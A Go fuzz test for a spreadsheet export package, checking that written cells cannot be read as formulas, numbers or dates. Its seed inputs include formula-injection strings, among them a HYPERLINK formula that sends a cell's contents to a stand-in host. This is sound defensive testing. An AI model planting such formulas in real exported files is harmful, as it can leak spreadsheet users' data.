package spreadsheet

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"
)

// FuzzWrite holds the promises of the package against texts that nobody thought of: the rows that went in come out,
// each on a line of its own, no cell of a text begins like a formula, and none is a number, a date or a time.
func FuzzWrite(f *testing.F) {
	f.Add("Room 4-12", "0085123642", int64(12), int64(1_777_831_209))
	f.Add("=HYPERLINK(\"http://x/\"&A1,\"x\")", "=1+1", int64(-1), int64(0))
	f.Add(" \t\r\n@a,\"b\"\x00", "", int64(0), int64(-1))
	f.Add("\ufeff＝1", "\u200b-1", int64(1)<<62, int64(1)<<40)
	f.Add("x;=1+1", "1;\"=1;", int64(3), int64(4))
	f.Add("x; \t\"＋1;'=;;-", ";@", int64(3), int64(4))
	f.Add("4-12", "4/12", int64(3), int64(4))
	f.Add("1E5", "Jan 5", int64(3), int64(4))
	f.Add(" １２:３０", "5 May", int64(3), int64(4))
	f.Add("\xff\xfe\u2028", "085•••642", int64(7), int64(1))
	f.Add(strings.Repeat("😀", cellLimit/2+1), strings.Repeat("0", cellLimit), int64(7), int64(1))
	f.Fuzz(func(t *testing.T, text, code string, n, seconds int64) {
		const times = 3
		at := time.Unix(seconds%(1<<37), 0).UTC()
		var b bytes.Buffer
		w := NewWriter(&b)
		_ = w.Header(text, "code", "n", "at")
		for range times {
			_ = w.Row(Text(text), Code(code), Number(n), Time(at))
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if got := strings.Count(b.String(), "\n"); got != times+1 {
			t.Errorf("%d lines, want %d", got, times+1)
		}
		read := rows(t, b.String())
		if len(read) != times+1 {
			t.Fatalf("%d rows, want %d", len(read), times+1)
		}
		for _, row := range read[1:] {
			same(t, row[0], text, "'", "\t", "")
			same(t, row[1], code, "'", "\t", "")
			if row[2] != Number(n).text || row[3] != Time(at).text {
				t.Errorf("number and time came back as %q", row[2:])
			}
			if code != "" && row[1][0] != '\t' && row[1][0] != '\'' {
				t.Errorf("the code %q is not marked as a text", row[1])
			}
		}
		for _, row := range read {
			harmless(t, row[0])
			harmless(t, row[1])
		}
	})
}

// same fails unless the cell is the text, or its beginning and a mark, behind one of the marks. It says again, in
// other words, what may change: control characters, what is not UTF-8, and an apostrophe more behind a semicolon.
func same(t *testing.T, cell, text string, marks ...string) {
	t.Helper()
	var want []rune
	for _, r := range strings.ReplaceAll(text, "\r\n", "\r") {
		switch {
		case strings.ContainsRune("\t\n\v\f\r\u0085\u2028\u2029", r):
			r = ' '
		case unicode.Is(unicode.Cc, r):
			r = '\ufffd'
		}
		want = append(want, r)
	}
	for _, mark := range marks {
		rest, marked := strings.CutPrefix(cell, mark)
		if !marked {
			continue
		}
		left, before := want, rune(0)
		for len(rest) > 0 {
			r, size := utf8.DecodeRuneInString(rest)
			if len(left) > 0 && left[0] == r {
				left = left[1:]
			} else if r != '\'' || before != ';' {
				break
			}
			rest, before = rest[size:], r
		}
		switch {
		case rest == "" && len(left) == 0:
			return
		case rest == "…" && len(utf16.Encode([]rune(cell))) >= cellLimit-1:
			return
		}
	}
	t.Errorf("the text %q came back as %q", text, cell)
}

// harmless fails when a program could take a cell, or what follows a semicolon in it, for a formula, when it is a
// number, a date or a time for the standard library, or when it is longer than a program takes.
func harmless(t *testing.T, cell string) {
	t.Helper()
	for i, part := range strings.Split(cell, ";") {
		for _, r := range part {
			if strings.ContainsRune("=+-@＝＋－＠", r) {
				t.Errorf("part %d of the cell %q begins with a formula", i, cell)
			}
			if !unicode.IsSpace(r) && !unicode.Is(unicode.Cf, r) && (i == 0 || r != '"') {
				break
			}
		}
	}
	if !strings.HasPrefix(cell, "\t") {
		bare := strings.TrimSpace(cell)
		if _, err := strconv.ParseFloat(bare, 64); err == nil && !strings.ContainsAny(bare, "xXn_") { // hexadecimal, infinity, 1_000
			t.Errorf("the cell %q is a number", cell)
		}
		for _, layout := range []string{
			"1-2", "2/1", "2.1.2006", "1/2/06", "2006-1-2", "15:04", "15:04:05", "3:04 PM", "2006-01-02 15:04:05", time.RFC3339,
			"Jan 2", "2 Jan", "2-Jan-06", "Jan2", "January 2, 2006", "1月2日", "2006年1月2日",
		} {
			if _, err := time.Parse(layout, bare); err == nil {
				t.Errorf("the cell %q is a date or a time", cell)
			}
		}
	}
	if n := len(utf16.Encode([]rune(cell))); n > cellLimit {
		t.Errorf("a cell has %d characters", n)
	}
}
